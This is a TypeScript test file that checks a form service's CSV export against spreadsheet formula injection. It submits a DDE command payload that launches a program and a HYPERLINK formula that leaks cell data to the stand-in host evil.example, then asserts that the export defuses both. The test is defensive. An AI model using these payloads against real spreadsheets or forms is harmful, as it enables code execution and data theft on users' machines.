import test from '../helpers/bounded-test';
import { makeResponse } from '@formloom/core/testing';
import type { SharedDb } from '../helpers/shared-apps';

const CMD = "=cmd|' /C calc'!A0";
const LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

/** The cells of a CSV text (RFC 4180: quoted fields may hold commas, quotes and line breaks). */
function cells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && csv[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}

/** exports.test.ts registers these on the apps its parts share (helpers/shared-apps.ts). */
export const register = (forEachDb: SharedDb) => forEachDb((it) => {
  it('CSV export: choice lists, "other" answers, file URLs and sub-fields never start a cell with a formula', async (t, app) => {
    const u = await app.user();
    const created = await app.api('POST', '/forms', {
      key: u.key,
      body: {
        title: 'Formulas',
        published: true,
        questions: [
          { type: 'multiple_choice', title: 'Many', properties: { choices: [{ label: 'Red' }], allow_multiple: true, allow_other: true } },
          { type: 'multiple_choice', title: 'One', properties: { choices: [{ label: 'Red' }], allow_other: true } },
          { type: 'file_upload', title: 'CV' },
          { type: 'contact_info', title: 'Contact', properties: { fields: ['first_name', 'company'] } },
          { type: 'number', title: 'Delta' },
        ],
      },
    });
    t.is(created.status, 201, JSON.stringify(created.body));
    const form = created.body;
    const [many, one, cv, contact, delta] = form.questions;
    const sent = await app.api('POST', `/public/forms/${form.slug}/responses`, {
      body: {
        answers: [
          { question_id: many.id, value: [CMD, 'Red'] },
          { question_id: one.id, value: '@SUM(A1:A9)' },
          { question_id: contact.id, value: { first_name: '+1+1', company: '-2' } },
          { question_id: delta.id, value: -5 },
        ],
      },
    });
    t.is(sent.status, 201, JSON.stringify(sent.body));
    // A file answer stored before file URLs had to name an upload: the export must still defuse it.
    await app.formloom.storage.transaction(async (tx) => {
      await tx.responses.insert(
        makeResponse(form.id, 0, { id: 'rsp_legacy', answers: [{ question_id: cv.id, value: { url: LINK, name: 'x.pdf' } }, { question_id: many.id, value: ['\tTab', '=1'] }] }),
      );
    });
    const res = await app.api('GET', `/forms/${form.id}/responses/export`, { key: u.key });
    t.is(res.status, 200);
    const rows = cells(res.text);
    t.deepEqual(rows[0], ['responseId', 'submittedAt', 'completedAt', 'Many', 'One', 'CV', 'Contact - First name', 'Contact - Company', 'Delta']);
    const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
    t.deepEqual(byId.get(sent.body.id)!.slice(3), [`'${CMD}, Red`, "'@SUM(A1:A9)", '', "'+1+1", "'-2", '-5']);
    t.deepEqual(byId.get('rsp_legacy')!.slice(3), ["'\tTab, =1", '', `'${LINK}`, '', '', '']);
    for (const row of rows.slice(1)) {
      for (const cell of row.slice(3)) t.false(/^[=+@\t\r]/.test(cell) || /^-(?!\d+$)/.test(cell), `a cell starts a formula: ${cell}`);
    }
  });
});
